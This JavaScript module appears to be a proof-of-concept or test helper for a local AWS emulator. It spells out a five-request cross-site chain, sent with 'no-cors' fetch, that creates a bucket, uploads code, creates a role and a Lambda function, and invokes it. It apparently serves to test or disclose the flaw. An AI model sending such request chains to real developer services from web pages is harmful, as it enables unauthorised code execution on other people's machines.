// The requests that make a function in the local AWS and run it.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

// Where Lambda takes a request to go that is not signed, as a page's are.
export const region = 'us-east-1';
const trust = {
  Effect: 'Allow',
  Principal: { Service: 'lambda.amazonaws.com' },
  Action: 'sts:AssumeRole',
};
const code = `export const handler = async () =>
  ({ statusCode: 200, headers: { 'access-control-allow-origin': '*' }, body: 'it ran' });`;

/** The code of a function, zipped. */
export function archive() {
  const folder = mkdtempSync(join(tmpdir(), 'tap-zip-'));
  writeFileSync(join(folder, 'index.mjs'), code);
  const zip = join(folder, 'code.zip');
  execFileSync('python3', ['-m', 'zipfile', '-c', zip, join(folder, 'index.mjs')]);
  const content = readFileSync(zip);
  rmSync(folder, { recursive: true });
  return content.toString('base64');
}

/** A request of the control API that creates a resource, as a page would send it. */
export function create(stack, type, name, inputs) {
  const body = { key: `${type}::${name}`, type, name, region, inputs };
  return {
    path: `/_tap/stacks/${stack}/create`,
    type: 'text/plain',
    body: JSON.stringify(body),
  };
}

/** The five requests that run code: each is one that a browser sends to any site without asking it first. */
export function attack(name, zip) {
  const role = {
    name: `${name}-role`,
    assumeRolePolicy: JSON.stringify({ Version: '2012-10-17', Statement: [trust] }),
  };
  const settings = {
    name,
    role: `arn:aws:iam::123456789012:role/${role.name}`,
    runtime: 'nodejs24.x',
    handler: 'index.handler',
    s3Bucket: `${name}-bucket`,
    s3Key: 'code.zip',
    publish: true,
  };
  return [
    create(name, 'aws:s3/bucket:Bucket', 'bucket', { bucket: settings.s3Bucket, forceDestroy: true }),
    { path: `/${settings.s3Bucket}`, form: { key: settings.s3Key, file: zip } },
    create(name, 'aws:iam/role:Role', 'role', role),
    create(name, 'aws:lambda/function:Function', 'function', settings),
    { path: `/2015-03-31/functions/${name}/invocations`, type: 'text/plain', body: '{}' },
  ];
}

/** Sends such a request. Runs here and, as its text, in a page. */
export async function send(base, { path, type, form, body }, headers = {}, mode = 'no-cors') {
  const data = form && new FormData();
  if (form) {
    data.append('key', form.key);
    const bytes = Uint8Array.from(atob(form.file), (character) => character.charCodeAt(0));
    data.append('file', new Blob([bytes]));
  }
  const response = await fetch(base + path, {
    method: 'POST',
    mode,
    headers: { ...(type && { 'Content-Type': type }), ...headers },
    body: data ?? body,
  });
  return { status: response.status, text: await response.text() };
}
